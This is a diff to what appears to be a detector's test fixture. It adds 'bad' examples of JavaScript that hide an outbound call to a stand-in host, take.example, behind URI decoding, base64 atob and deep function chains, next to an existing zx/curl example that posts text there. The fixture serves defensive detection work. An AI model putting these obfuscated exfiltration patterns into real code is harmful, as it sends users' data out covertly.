@@ -3,6 +3,16 @@ import type { DetectorExamples } from '../detector.ts';
 export const examples: DetectorExamples = {
   bad: [
     {
+      code: "const at = decodeURIComponent.bind(null, 'https%3A%2F%2Ftake.example'); fetch(at('https://known.example'));",
+      why: 'a host that was given before the one that is read',
+      attributes: { destination: 'take.example', scheme: 'https', via: 'fetch' },
+    },
+    {
+      code: "if (x) open(f0('x')); const url = decode('aHR0cHM6Ly90YWtlLmV4YW1wbGU='); fetch(url); function decode(s) { return atob(s); } function f0(a) { return f1(a); } function f1(a) { return f2(a); } function f2(a) { return f3(a); } function f3(a) { return f4(a); } function f4(a) { return f5(a); } function f5(a) { return f6(a); } function f6(a) { return f7(a); } function f7(a) { return a + url; }",
+      why: 'a host that something asked for before, from too deep to know it',
+      attributes: { destination: 'take.example', scheme: 'https', via: 'fetch' },
+    },
+    {
       code: "import { $ } from 'zx'; const send = (text) => $`curl -d ${text} https://take.example`;",
       why: 'a template that a shell reads',
       attributes: { destination: 'take.example', scheme: 'https', via: 'curl' },
